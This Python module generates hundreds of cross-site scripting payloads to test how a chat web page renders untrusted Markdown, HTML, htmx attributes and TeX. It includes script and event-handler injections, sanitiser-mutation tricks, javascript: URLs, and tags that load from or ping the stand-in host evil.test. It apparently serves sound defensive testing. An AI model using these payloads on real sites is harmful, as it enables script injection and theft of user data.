"""Payloads like those of the well-known collections, generated: seeds, in contexts, in encodings.

Each tries to run something (it would set `window.__pwned`, open a dialog or send a request to
evil.test or a page of staff), to pass for a part of the page, or to leave the element that shows
it. Every payload contains `MARK`, so that a test can find where its text went.
"""

from collections.abc import Callable, Iterator
from html import escape
from urllib.parse import quote

MARK = "zq7"
RUN = f"window.__pwned='{MARK}'"
EVIL = f"http://evil.test/{MARK}"
TOOL_SERVER = "/settings/tools/new/"

# fmt: off
ELEMENTS = [
    "<script>{run}</script>", "<script src={evil}></script>", "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script>", "<script\n>{run}</script\n>", "<scr<script>ipt>{run}</script>",
    "<img src=x onerror={run}>", '<img src="x" onerror="{run}">', "<img/src=x/onerror={run}>",
    "<img src={evil}>", "<img srcset={evil}>", "<image href={evil}>", "<img src=`x`onerror={run}>",
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><use href={evil}#x>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>", "<svg><image href={evil}>",
    "<svg><foreignObject><body onload={run}></foreignObject></svg>", "<svg><style>@import'{evil}'",
    "<body onload={run}>", "<body background={evil}>", "<html onmouseover={run}>",
    "<iframe src=javascript:{run}>", "<iframe srcdoc='<script>{run}</script>'>",
    "<iframe src={evil}>", "<object data=javascript:{run}>", "<embed src=javascript:{run}>",
    "<embed src={evil}>", "<applet code={evil}>", "<frameset onload={run}>", "<base href={evil}/>",
    "<link rel=stylesheet href={evil}>", "<link rel=import href={evil}>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action=javascript:{run}><button>x",
    "<form action={evil}><input autofocus onfocus={run}>",
    "<button form=composer formaction=javascript:{run}>x</button>", "<isindex action={evil} x=y>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<keygen autofocus onfocus={run}>",
    "<video src=x onerror={run}>", "<video><source onerror={run}></video>",
    "<video poster={evil}>", "<audio src=x onerror={run}>", "<audio src={evil} autoplay>",
    "<details open ontoggle={run}>", "<marquee onstart={run}>",
    "<div style=background:url({evil})>", "<div style='width:expression({run})'>",
    "<style>@import '{evil}';</style>", "<style>*{{background:url({evil})}}</style>",
    "<table background={evil}>", "<td background={evil}>", "<a href=javascript:{run}>x</a>",
    "<a href={evil} ping={evil}>x</a>", "<dialog open onclose={run}>",
    "<x contenteditable onfocus={run} autofocus>", "<x onclick={run} tabindex=1 id=x>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<xss onpointerenter={run} style=position:fixed;inset:0>",
    "<slot name=x><img src=x onerror={run}>", "<portal src={evil}>", "<bgsound src={evil}>",
    "<layer src={evil}>", "<plaintext><img src=x onerror={run}>",
    "<xmp><img src=x onerror={run}></xmp>", "<listing>&lt;img src=x onerror={run}&gt;</listing>",
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<math><mi//xlink:href='{evil}'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={run}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<svg><title><style><img src=x onerror={run}></style></title></svg>",
    "<math><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<noscript><style></noscript><img src=x onerror={run}>",
    "<p><svg><desc><template><img src=x onerror={run}>",
    "<table><td><svg><td><img src=x onerror={run}>",
    "<select><iframe></select><img src=x onerror={run}>",
    "<svg><![CDATA[><img src=x onerror={run}>]]></svg>", "<!--><img src=x onerror={run}>-->",
    "<!--><img src=x onerror={run}>--!>", "<? echo('<img src=x onerror={run}>') ?>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "</p></div></article></main><img src=x onerror={run}>",
    "<a href='x<!--' title='--><img src=x onerror={run}>'>",
    "<textarea></textarea><img src=x onerror={run}></textarea>",
    "<title></title><img src=x onerror={run}></title>",
    "<img alt='<x' title='/><img src=x onerror={run}>'>",
    '<img src="x` `<script>{run}</script>"` `>', "<style></style\t<img src=x onerror={run}>",
    "<b <script>{run}</script>0", "<<img src=x onerror={run}>", "<img \x00src=x onerror={run}>",
    "<im\x00g src=x onerror={run}>", "<\x00script>{run}</script>",
    "\ufdd0<img src=x onerror={run}>", "<\ufdd0img src=x onerror={run}>",
    "\ufdd10\ufdd2<img src=x onerror={run}>", "<img\u2028src=x\u2029onerror={run}>",
    "<img\x0csrc=x\x0conerror={run}>", "\u3008img src=x onerror={run}\u3009",
    "\uff1cimg src=x onerror={run}\uff1e",
    "+ADw-script+AD4-{run}", "%3Cimg src=x onerror={run}%3E", "\\x3cimg src=x onerror={run}\\x3e",
    "\\u003cimg src=x onerror={run}",
]
SCHEMES = [
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java&Tab;script:{run}",
    "java&NewLine;script:{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}",
    "&#0000106avascript:{run}", "%6Aavascript:{run}", "javascript&colon;{run}",
    "javascript&#58;{run}", "\x01javascript:{run}", "&#1;javascript:{run}", "\xa0javascript:{run}",
    "javascript://%0a{run}", "javascript:/*--></title>*/{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>", "vbscript:{run}", "livescript:{run}", "mocha:{run}",
    "file:///{mark}", "blob:{evil}", "filesystem:{evil}", "view-source:{evil}",
    "feed:javascript:{run}", "jar:{evil}!/", "//evil.test/{mark}", "\\\\evil.test\\{mark}",
    "/people/{mark}", "?{mark}", "#{mark}", "http:{mark}", "https:/{mark}",
    "http://evil.test\\@{mark}", "mailto:{mark}?body=<script>", "tel:{mark}", "x-{mark}:y",
    "ftp://evil.test/{mark}",
]
ACTING = [
    'hx-get="/people/?{mark}"', 'hx-post="{tool}"', 'hx-put="{tool}"', 'hx-delete="{tool}"',
    'hx-patch="{tool}"', 'hx-action="{tool}"', 'hx-query="{tool}"', 'data-hx-post="{tool}"',
    "hx-ws:send", 'hx-ws:connect="/ws/?{mark}"', "ws-send", 'ws-connect="/ws/?{mark}"',
    'hx-on:click="{run}"', 'hx-on="load -> {run}"', 'hx-on::load="{run}"',
    'data-hx-on:load="{run}"', 'hx-swap-oob="outerHTML:#main"', 'hx-swap-oob="true" id="title"',
    'hx-preserve id="app"', "hx-boost=true", 'hx-vals="js:{run}"',
    'hx-include="[name=csrfmiddlewaretoken]"', "hx-history-elt", 'hx-config="{run}"',
    "onmouseover={run}", "autofocus onfocus={run}", "style=position:fixed;inset:0",
    'ping="{evil}"', 'xlink:href="javascript:{run}"',
]
POSING = [
    'id="composer-state" data-url="/c/{mark}"', 'id="problem"', 'id="message"', 'id="composer"',
    'id="app"', 'id="announcer"', 'id="title"', 'id="connection"', 'id="main"',
    'id="conversations"', 'id="csrf"', 'name="message"', 'name="action" value="allow"',
    'name="getElementById"', 'form="composer"', "data-copy=app", "data-copy-code",
    'data-copy-text="{mark}"', "data-suggestion", "data-to-latest", "data-sidebar-toggle",
    "data-sign-out", "data-new-chat", 'data-reply="{mark}" data-ending="streaming"',
    'data-message="{mark}"', 'data-region="answer"', "data-thought", 'data-state="asking"',
    'data-usage="reported"', "data-running", 'class="waiting"', 'class="notice error"',
    'class="allow"', 'class="pending"', 'class="stop"', 'class="tool-answer"', 'class="token p0"',
    'class="htmx-request"', "hidden", "popover", "inert", 'slot="x"', 'role="alert"',
    'aria-live="assertive"', 'aria-label="Allow"', "contenteditable", "draggable=true", 'lang="x"',
    'dir="rtl"', "accesskey=s", 'is="x-y"', "part=x", 'itemprop="x"', "nonce=x", 'tabindex="9"',
    "title={mark}",
]
TEX = [
    "\\href{{javascript:{run}}}{{x}}", "\\url{{{evil}}}", "\\style{{background:url({evil})}}{{x}}",
    "\\class{{waiting}}{{x}}", "\\cssId{{app}}{{x}}", "\\html{{<script>{run}</script>}}",
    "\\text{{<img src=x onerror={run}>}}", "\\text{{</mtext></math><img src=x onerror={run}>}}",
    "\\mathrm{{</math><script>{run}</script>}}", "\\unicode{{60}}script\\unicode{{62}}{run}",
    '\\color{{red" onclick={run} x="}}{{x}}', '\\textcolor{{"onclick={run}}}{{x}}',
    '\\bbox[red" onclick={run}]{{x}}', '\\colorbox{{"><img src=x onerror={run}>}}{{x}}',
    "\\includegraphics{{{evil}}}", "\\input{{{evil}}}", "\\def\\x{{\\x}}\\x {mark}",
    '\\hspace{{1em" onclick="{run}}}x', '\\rule{{1em" onclick="{run}}}{{1em}}',
    "\\tag{{<b>{mark}</b>}}x", '\\begin{{array}}{{c" onclick="{run}|c}}a&b\\end{{array}}',
    "\\operatorname{{<script>{run}</script>}}", "\\text{{&lt;img src=x onerror={run}&gt;}}",
    "\\text{{&#60;script&#62;{run}}}", '\\style{{"{run}}}{{x}}', "x \\hspace{{-99em}} {mark}",
    "\\raise{{99em}}{{{mark}}}", '\\mathbin{{"{mark}"}}', "\\left<{mark}\\right>",
]
# fmt: on
LINKS = [
    "[x]({0})",
    "[x](<{0}>)",
    "[x]({0} 'x')",
    "![x]({0})",
    "[![x]({0})]({0})",
    "<{0}>",
    "[x]: {0}\n\n[x]",
    "[x]: <{0}> 'x'\n\n[x] ![x]",
    "**[x]({0})**",
]
# A quote could end an attribute here if what is substituted were not escaped for it.
BREAKS = [
    """[x](http://a '$" {0} z="$')""",
    """[x](http://a "$' {0} z='$")""",
    """[x](http://a '" {0} z="')""",
    """![$" {0} z="$](http://a)""",
    """[x](http://a/$"{0}"$)""",
    """[x]: http://a '$" {0} z="$'\n\n[x]""",
    """```py" {0} z="\nx\n```\n""",
    """~~~$" {0} z="$\nx\n~~~\n""",
    """<b {0}>x</b>""",
    """$\\text{{x" {0} z="}}$""",
]
ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "entities": lambda text: escape(text, quote=True),
    "numbers": lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'=/:" else c for c in text),
    "hexadecimal": lambda text: "".join(f"&#x{ord(c):X};" if c in "<>\"'=/:" else c for c in text),
    "percents": lambda text: quote(text, safe=" "),
    "escapes": lambda text: "".join(f"\\{c}" if c in "<>\"'=/:[]()" else c for c in text),
}
CONTEXTS = [
    "{0}",
    "`{0}",
    "- {0}\n  {0}",
    "> {0}",
    "|a|\n|-|\n|{0}|",
    "```html\n{0}\n```\n",
    "# {0}",
    "*{0}**",
]


def _fill_seeds(seeds: list[str]) -> Iterator[str]:
    for seed in seeds:
        yield seed.format(run=RUN, evil=EVIL, tool=f"{TOOL_SERVER}?{MARK}", mark=MARK)


def _mark_payloads(payloads: Iterator[str]) -> list[str]:
    """Return payloads without duplicates, each with its mark, ending where the next may begin."""
    marked = (text if MARK in text else f"{text} {MARK}" for text in payloads)
    return list(dict.fromkeys(marked))


def _encode_elements() -> Iterator[str]:
    seeds = list(_fill_seeds(ELEMENTS))
    for number, encode in enumerate(list(ENCODINGS.values())[1:]):
        yield from (encode(seed) for seed in seeds[number::3])


def _place_in_contexts() -> Iterator[str]:
    seeds = list(_fill_seeds(ELEMENTS + MUTATIONS))
    for number, context in enumerate(CONTEXTS[1:]):
        yield from (context.format(seed) for seed in seeds[number::5])


def _break_out(attributes: list[str]) -> Iterator[str]:
    acting = list(_fill_seeds(attributes))
    for number, form in enumerate(BREAKS):
        yield from (
            form.format(f"{attribute} hx-trigger=load") for attribute in acting[number % 2 :: 2]
        )


SETS: dict[str, list[str]] = {
    "elements": _mark_payloads(_fill_seeds(ELEMENTS)),
    "elements encoded": _mark_payloads(_encode_elements()),
    "elements in Markdown": _mark_payloads(_place_in_contexts()),
    "mutations": _mark_payloads(_fill_seeds(MUTATIONS)),
    "addresses": _mark_payloads(
        form.format(address)
        for number, form in enumerate(LINKS)
        for address in list(_fill_seeds(SCHEMES))[number % 2 :: 2]
    ),
    "attributes that act": _mark_payloads(_break_out(ACTING)),
    "attributes that pose": _mark_payloads(_break_out(POSING)),
    "formulas": _mark_payloads(
        form.format(tex) for tex in _fill_seeds(TEX) for form in ("${0}$", "$${0}$$", "\\({0}\\)")
    ),
}
PAYLOADS = [payload for payloads in SETS.values() for payload in payloads]
